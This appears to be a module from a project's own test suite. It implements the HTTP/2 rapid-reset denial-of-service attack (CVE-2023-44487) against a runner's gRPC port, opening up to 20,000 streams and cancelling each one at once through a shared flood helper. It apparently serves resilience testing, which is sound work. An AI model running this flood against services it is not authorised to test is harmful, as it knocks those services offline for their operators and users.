"""Rapid reset (CVE-2023-44487): streams that are opened and reset at once."""

from __future__ import annotations

from tests.support.http2 import CANCEL, RST_STREAM, Peer, frame

from ._flood import flood
from ._row import Row

ABOUT = "opens 20 000 streams of a runner and resets each at once (CVE-2023-44487)"


def run(address: str, *, count: int = 20_000, seconds: float = 20.0) -> Row:
    """Attack the gRPC port of a runner."""
    return flood("rapid-reset", address, opened_and_reset, count=count, seconds=seconds)


def opened_and_reset(peer: Peer) -> bytes:
    """A stream's head, and its reset."""
    head, number = peer.begin()
    return head + frame(RST_STREAM, CANCEL, stream=number)
